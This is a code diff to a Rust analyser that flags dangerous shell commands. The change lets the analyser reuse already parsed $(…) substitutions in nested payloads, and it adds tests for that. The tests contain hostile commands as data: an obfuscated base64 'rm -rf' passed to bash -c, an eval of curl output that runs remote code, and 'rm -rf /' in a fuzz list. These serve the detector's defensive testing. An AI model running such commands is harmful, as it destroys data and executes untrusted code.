@@ -24,7 +24,10 @@
 //! at most 8, so that wrapping never lowers a decision), the lexers' depth/token limits.
 
 use super::command::{self, Dialect, Payload};
-use super::model::{LexLimits, LexProblem, NestedKind, RedirectKind, Script, SimpleCommand};
+use super::model::{
+    Connector, LexLimits, LexProblem, Nested, NestedKind, RedirectKind, Script, SimpleCommand,
+    Span, Word,
+};
 use super::rules::{self, Category, Context};
 use super::{cmd, posix, pwsh};
 use crate::analysis::{paths, Limits, Report};
@@ -34,17 +37,19 @@ use crate::finding::{self, Finding};
 /// (0 for the call's own command).
 pub fn analyze(text: &str, primary: Dialect, limits: &Limits, depth: usize) -> Analysis {
     let memo = std::cell::RefCell::new(Memo::default());
-    analyze_in(text, primary, limits, depth, &memo)
+    analyze_in(text, primary, limits, depth, &memo, None)
 }
 
 /// [`analyze`] with the walks of nested scripts that this command line (its payloads included)
-/// has already made ([`Memo`]).
+/// has already made ([`Memo`]), and `lexed`: the POSIX reading of `text` when it is already
+/// known (a payload that is a substitution of the line it came from, [`Substitutions`]).
 fn analyze_in(
     text: &str,
     primary: Dialect,
     limits: &Limits,
     depth: usize,
     memo: &std::cell::RefCell<Memo>,
+    lexed: Option<Script>,
 ) -> Analysis {
     let mut out = Analysis::new();
     let text = if text.len() > limits.max_command_length {
@@ -62,6 +67,8 @@ fn analyze_in(
     } else {
         text
     };
+    // (Read from the whole text: for a prefix it would not be the reading.)
+    let lexed = lexed.filter(|_| text.len() <= limits.max_command_length);
     if rules::is_fork_bomb(text) {
         out.report.add(Finding::new(
             &finding::DISK_OR_PERMISSION_WIPE,
@@ -72,7 +79,8 @@ fn analyze_in(
     let lex_limits = LexLimits::default();
     // The POSIX reading is needed when POSIX is the primary dialect (and then also decides
     // whether the line is read in the others); a PowerShell or CMD payload is never re-read.
-    let posix_script = (primary == Dialect::Posix).then(|| posix::lex(text, &lex_limits));
+    let posix_script =
+        (primary == Dialect::Posix).then(|| lexed.unwrap_or_else(|| posix::lex(text, &lex_limits)));
     // A payload's dialect is known (`sh -c`, `cmd /c`, `pwsh -Command`): only the call's own
     // command line, whose shell the host does not name, is read in the other dialects too — and
     // only when something in it is Windows-shaped, so that POSIX quoting (`'a & b'`, heredoc
@@ -111,7 +119,7 @@ fn analyze_in(
         };
         let mut walk = Walk::new(limits, depth, dialect, memo);
         walk.script(script, 0);
-        walk.finish();
+        walk.finish((dialect == Dialect::Posix).then_some((secondary_text, script)));
         if dialect == primary {
             let problems = real_problems(script, secondary_text);
             for p in &problems {
@@ -870,7 +878,7 @@ impl<'l> Walk<'l> {
     /// The walk of a script nested in a command of this one, from the memo when an equal
     /// script was walked before; `record`: keep it there for a payload of the command.
     fn nested(&self, script: &Script, nest: usize, record: bool) -> Absorbed {
-        if memo_enabled() {
+        if shortcuts_enabled() {
             if let Some(done) = self.memo.borrow().find(self.dialect, script) {
                 #[cfg(test)]
                 MEMO_HITS.with(|h| h.set(h.get() + 1));
@@ -880,7 +888,7 @@ impl<'l> Walk<'l> {
         let mut sub = Walk::new(self.limits, self.depth, self.dialect, self.memo);
         sub.script(script, nest + 1);
         let done = sub.into_absorbed();
-        if record && memo_enabled() {
+        if record && shortcuts_enabled() {
             self.memo.borrow_mut().record(self.dialect, script, &done);
         }
         done
@@ -918,8 +926,9 @@ impl<'l> Walk<'l> {
         self.run_words.extend(sub.run_words);
     }
 
-    /// Cross-command verdicts and payload recursion, once the whole script is walked.
-    fn finish(&mut self) {
+    /// Cross-command verdicts and payload recursion, once the whole script is walked; `lexed`:
+    /// the POSIX text and script walked, whose substitutions a payload may repeat.
+    fn finish(&mut self, lexed: Option<(&str, &Script)>) {
         if self.reads_secret && self.network {
             self.add(
                 &finding::CREDENTIAL_EXFILTRATION,
@@ -974,6 +983,7 @@ impl<'l> Walk<'l> {
             }
         }
         let payloads = std::mem::take(&mut self.payloads);
+        let mut substitutions = Substitutions::default();
         for p in payloads {
             self.report.read_only = false;
             if self.depth + 1 > self.limits.max_wrapper_depth {
@@ -991,7 +1001,20 @@ impl<'l> Walk<'l> {
                     continue;
                 }
             }
-            let sub = analyze_in(&p.text, p.dialect, self.limits, self.depth + 1, self.memo);
+            let known = match lexed {
+                Some((text, script)) if p.dialect == Dialect::Posix && shortcuts_enabled() => {
+                    substitutions.reading(text, script, &p.text)
+                }
+                _ => None,
+            };
+            let sub = analyze_in(
+                &p.text,
+                p.dialect,
+                self.limits,
+                self.depth + 1,
+                self.memo,
+                known,
+            );
             self.report.merge(sub.report);
         }
     }
@@ -1048,17 +1071,19 @@ impl Memo {
 
 #[cfg(test)]
 thread_local! {
-    /// Tests switch the memo off for the reference run (every nested script walked anew).
-    static MEMO_OFF: std::cell::Cell<bool> = const { std::cell::Cell::new(false) };
+    /// Tests switch the memo and the substitution readings off for the reference run (every
+    /// nested script walked anew, every payload lexed).
+    static SHORTCUTS_OFF: std::cell::Cell<bool> = const { std::cell::Cell::new(false) };
     /// Walks taken from the memo (the tests check that the shortcut is taken at all).
     static MEMO_HITS: std::cell::Cell<usize> = const { std::cell::Cell::new(0) };
 }
 
-/// The memo is used (always, outside the tests' reference runs).
-fn memo_enabled() -> bool {
+/// The memo and the substitution readings are used (always, outside the tests' reference
+/// runs).
+fn shortcuts_enabled() -> bool {
     #[cfg(test)]
     {
-        !MEMO_OFF.with(std::cell::Cell::get)
+        !SHORTCUTS_OFF.with(std::cell::Cell::get)
     }
     #[cfg(not(test))]
     {
@@ -1066,12 +1091,12 @@ fn memo_enabled() -> bool {
     }
 }
 
-/// `f` with the memo off: the reference the memo must equal.
+/// `f` with the memo and the substitution readings off: the reference they must equal.
 #[cfg(test)]
-fn without_memo<T>(f: impl FnOnce() -> T) -> T {
-    MEMO_OFF.with(|m| m.set(true));
+fn without_shortcuts<T>(f: impl FnOnce() -> T) -> T {
+    SHORTCUTS_OFF.with(|m| m.set(true));
     let out = f();
-    MEMO_OFF.with(|m| m.set(false));
+    SHORTCUTS_OFF.with(|m| m.set(false));
     out
 }
 
@@ -1120,6 +1145,7 @@ fn same_shape(a: &Script, b: &Script) -> bool {
             kind,
             script,
             in_word,
+            source: _,
         } = a;
         *kind == b.kind && *in_word == b.in_word && same_shape(script, &b.script)
     }
@@ -1161,6 +1187,154 @@ fn same_shape(a: &Script, b: &Script) -> bool {
                 && all(heredocs, &y.heredocs, heredoc)
                 && all(inner, &y.nested, nested)
         })
+}
+
+/// The POSIX reading of a payload that is exactly a `$(…)` substitution of the line it came
+/// from (`bash -c "$(echo … | base64 -d)"`: the payload `$(echo … | base64 -d)` is one
+/// command, that substitution), built from the substitution's script instead of lexing its
+/// text again.
+///
+/// Sound because a substitution's script is lexed by a fresh state at its `$(` and ends at its
+/// `)`, whatever surrounds it, so the payload's lexer builds the very same script (its spans
+/// moved to the payload's offsets) inside one unquoted dynamic word — as long as nothing
+/// outside that state takes part: the substitution lexed with no problem at all (so no limit
+/// was met, and none is met at the payload's lower depth and smaller token count), and its
+/// text holds no newline (heredoc bodies and continuations read across lines), no backtick
+/// (re-lexed content) and no `((` or `<<` (arithmetic re-reads and heredocs, which have
+/// budgets and bodies of their own). The tests hold the reading equal to `posix::lex` over
+/// every corpus text and random ones.
+#[derive(Default)]
+struct Substitutions<'s> {
+    /// The candidates of the walked script (`None`: not collected yet).
+    found: Option<Vec<(Span, &'s Script)>>,
+}
+
+/// Candidates kept per command line (a bound on each look-up).
+const SUBSTITUTIONS: usize = 16;
+
+impl<'s> Substitutions<'s> {
+    /// The reading of `payload` when it is a candidate substitution of `script` (lexed from
+    /// `text`).
+    fn reading(&mut self, text: &str, script: &'s Script, payload: &str) -> Option<Script> {
+        if !reads_alike(payload) {
+            return None;
+        }
+        let found = self.found.get_or_insert_with(|| candidates(script));
+        let &(span, sub) = found.iter().find(|(span, _)| {
+            span.end - span.start == payload.len()
+                && text.get(span.start..span.end) == Some(payload)
+        })?;
+        Some(substitution_reading(payload, span.start, sub))
+    }
+}
+
+/// A payload text a substitution's script stands for (see [`Substitutions`]): `$(…)`, not
+/// `$((`, with no newline, backtick, `((` or `<<`.
+fn reads_alike(payload: &str) -> bool {
+    let b = payload.as_bytes();
+    b.starts_with(b"$(")
+        && b.ends_with(b")")
+        && !b.contains(&b'\n')
+        && !b.contains(&b'`')
+        && !has_literal(b, b"((")
+        && !has_literal(b, b"<<")
+}
+
+/// The command substitutions of `script` at any depth that lexed with no problem and whose
+/// text [`reads_alike`] (the first [`SUBSTITUTIONS`], depth first; a heap stack, no recursion).
+fn candidates(script: &Script) -> Vec<(Span, &Script)> {
+    let mut out = Vec::new();
+    let mut stack = vec![script];
+    while let Some(s) = stack.pop() {
+        for n in s.commands.iter().flat_map(|c| c.nested.iter()) {
+            if let (NestedKind::CommandSubstitution, Some(span)) = (n.kind, n.source) {
+                if n.script.problems.is_empty() && out.len() < SUBSTITUTIONS {
+                    out.push((span, &n.script));
+                }
+            }
+            stack.push(&n.script);
+        }
+        if out.len() >= SUBSTITUTIONS {
+            break;
+        }
+    }
+    out
+}
+
+/// What `posix::lex(payload)` builds when `payload` is the substitution `sub` found at `at`:
+/// one command, one unquoted dynamic word holding the substitution.
+fn substitution_reading(payload: &str, at: usize, sub: &Script) -> Script {
+    let whole = Span {
+        start: 0,
+        end: payload.len(),
+    };
+    let mut script = sub.clone();
+    shift_spans(&mut script, at);
+    Script {
+        commands: vec![SimpleCommand {
+            connector: Connector::Sequence,
+            assignments: Vec::new(),
+            argv: vec![Word {
+                text: payload.to_owned(),
+                span: whole,
+                quoted: false,
+                fully_quoted: false,
+                dynamic: true,
+                glob: false,
+            }],
+            redirects: Vec::new(),
+            heredocs: Vec::new(),
+            nested: vec![Nested {
+                kind: NestedKind::CommandSubstitution,
+                script,
+                in_word: Some(0),
+                source: Some(whole),
+            }],
+            background: false,
+            span: whole,
+        }],
+        problems: Vec::new(),
+    }
+}
+
+/// Moves every offset in `script` (nested scripts included) `by` bytes back.
+fn shift_spans(script: &mut Script, by: usize) {
+    fn span(s: &mut Span, by: usize) {
+        s.start = s.start.saturating_sub(by);
+        s.end = s.end.saturating_sub(by);
+    }
+    let mut stack = vec![script];
+    while let Some(s) = stack.pop() {
+        for p in &mut s.problems {
+            match p {
+                LexProblem::UnterminatedQuote { span: x }
+                | LexProblem::UnterminatedGroup { span: x }
+                | LexProblem::UnterminatedHereDoc { span: x }
+                | LexProblem::TooDeep { span: x }
+                | LexProblem::TooLong { span: x }
+                | LexProblem::Unsupported { span: x, .. } => span(x, by),
+            }
+        }
+        for c in &mut s.commands {
+            span(&mut c.span, by);
+            c.argv.iter_mut().for_each(|w| span(&mut w.span, by));
+            c.assignments
+                .iter_mut()
+                .for_each(|(_, w)| span(&mut w.span, by));
+            c.redirects
+                .iter_mut()
+                .for_each(|r| span(&mut r.target.span, by));
+            c.heredocs
+                .iter_mut()
+                .for_each(|h| span(&mut h.body_span, by));
+            for n in &mut c.nested {
+                if let Some(x) = n.source.as_mut() {
+                    span(x, by);
+                }
+                stack.push(&mut n.script);
+            }
+        }
+    }
 }
 
 /// Payload levels analysed at most: twice `max_wrapper_depth`, never more than 8.
@@ -1625,7 +1799,7 @@ mod tests {
     fn both(text: &str, primary: Dialect, depth: usize) -> (Analysis, Analysis) {
         let limits = Limits::default();
         let fast = analyze(text, primary, &limits, depth);
-        let slow = without_memo(|| analyze(text, primary, &limits, depth));
+        let slow = without_shortcuts(|| analyze(text, primary, &limits, depth));
         (fast, slow)
     }
 
@@ -1651,7 +1825,7 @@ mod tests {
         let fast = analyze(text, primary, &limits, depth);
         let hits = MEMO_HITS.with(std::cell::Cell::get) - before;
         if hits > 0 {
-            let slow = without_memo(|| analyze(text, primary, &limits, depth));
+            let slow = without_shortcuts(|| analyze(text, primary, &limits, depth));
             assert_eq!(fast, slow, "{text:?} {primary:?} {depth}");
         }
         hits
@@ -1724,7 +1898,10 @@ mod tests {
                 c.heredocs
                     .iter_mut()
                     .for_each(|h| h.body_span = Span::default());
-                c.nested.iter_mut().for_each(|n| script(&mut n.script));
+                c.nested.iter_mut().for_each(|n| {
+                    n.source = None;
+                    script(&mut n.script);
+                });
             }
         }
         script(&mut s);
@@ -1788,6 +1965,84 @@ mod tests {
         assert!(equal > texts.len());
     }
 
+    /// Every substitution of `text` (any depth, no cap) that the payload reading may stand for,
+    /// its reading checked against the lexer's; returns how many were checked.
+    fn check_substitution_readings(text: &str) -> usize {
+        let script = posix::lex(text, &LexLimits::default());
+        let mut checked = 0;
+        let mut stack = vec![&script];
+        while let Some(s) = stack.pop() {
+            for n in s.commands.iter().flat_map(|c| c.nested.iter()) {
+                stack.push(&n.script);
+                let Some(span) = n.source else { continue };
+                assert_eq!(n.kind, NestedKind::CommandSubstitution, "{text:?}");
+                let payload = &text[span.start..span.end];
+                if !reads_alike(payload) || !n.script.problems.is_empty() {
+                    continue;
+                }
+                let want = posix::lex(payload, &LexLimits::default());
+                let got = substitution_reading(payload, span.start, &n.script);
+                assert_eq!(got, want, "{text:?} {payload:?}");
+                checked += 1;
+            }
+        }
+        checked
+    }
+
+    /// Contexts a substitution may sit in (quotes, raw regions, `[[`, `case`, heredoc bodies,
+    /// assignments, redirections, nesting).
+    fn substitution_contexts(t: &str) -> Vec<String> {
+        vec![
+            format!("bash -c \"$({t})\""),
+            format!("x $({t}) y"),
+            format!("echo \"a${{b:-$({t})}}\" $(( 1 + $({t}) ))"),
+            format!("[[ -n $({t}) ]] && case $({t}) in a) $({t});; esac"),
+            format!("cat <<EOF\n$({t})\nEOF\nA=$({t}) b > $({t})"),
+            format!("echo $(echo $({t}))"),
+            format!("(echo \"$({t})\"; {{ x; }}) | sh"),
+        ]
+    }
+
+    #[test]
+    fn substitution_readings_are_the_lexers_over_the_corpora() {
+        let mut texts = crate::analysis::shell::rules::testing_corpus_texts();
+        texts.sort();
+        texts.dedup();
+        let mut checked = 0;
+        for (i, t) in texts.iter().enumerate() {
+            checked += check_substitution_readings(t);
+            let contexts = substitution_contexts(t);
+            checked += check_substitution_readings(&contexts[i % contexts.len()]);
+        }
+        // The reading is taken (not merely harmless).
+        assert!(checked > texts.len(), "{checked}");
+    }
+
+    #[test]
+    fn a_payload_that_is_a_substitution_is_read_not_lexed() {
+        let text = "bash -c \"$(echo cm0gLXJmIC90bXAveA== | base64 -d)\"";
+        let script = posix::lex(text, &LexLimits::default());
+        let mut subs = Substitutions::default();
+        let payload = "$(echo cm0gLXJmIC90bXAveA== | base64 -d)";
+        let got = subs.reading(text, &script, payload);
+        assert_eq!(got, Some(posix::lex(payload, &LexLimits::default())));
+        // Not a substitution of the line, or not one the reading stands for: lexed.
+        assert_eq!(subs.reading(text, &script, "$(echo x)"), None);
+        let text = "bash -c \"$(cat <<E\nx\nE\n)\"";
+        let script = posix::lex(text, &LexLimits::default());
+        assert_eq!(
+            Substitutions::default().reading(text, &script, "$(cat <<E\nx\nE\n)"),
+            None
+        );
+        let (fast, slow) = both(
+            "sh -c \"$(echo a | base64 -d)\" && eval \"$(curl -s x.example)\"",
+            Dialect::Posix,
+            0,
+        );
+        assert_eq!(fast, slow);
+        assert!(has(&fast.report, &finding::REMOTE_SCRIPT_EXECUTION));
+    }
+
     proptest::proptest! {
         #![proptest_config(proptest::prelude::ProptestConfig::with_cases(400))]
         #[test]
@@ -1808,6 +2063,23 @@ mod tests {
             let text = &texts[wrap];
             let (fast, slow) = both(text, Dialect::Posix, 0);
             proptest::prop_assert_eq!(fast, slow, "{:?}", text);
+        }
+
+        #[test]
+        fn substitution_readings_are_the_lexers_on_any_text(
+            parts in proptest::collection::vec(
+                proptest::sample::select(vec![
+                    "$(", ")", "(", "`", "\"", "'", " ", ";", "|", "&&", "\n", "\\", "#", "${",
+                    "}", "{ ", "$((", "((", "<<", "<<<", "<(", "[[", "]]", "case ", " in ", "esac",
+                    "echo ", "x=", "*", "$'\\x41'", "rm -rf /", "> f", "2>&1", "&", "é",
+                ]),
+                0..20,
+            ),
+            context in 0usize..7,
+        ) {
+            let t: String = parts.concat();
+            check_substitution_readings(&t);
+            check_substitution_readings(&substitution_contexts(&t)[context]);
         }
     }
 }
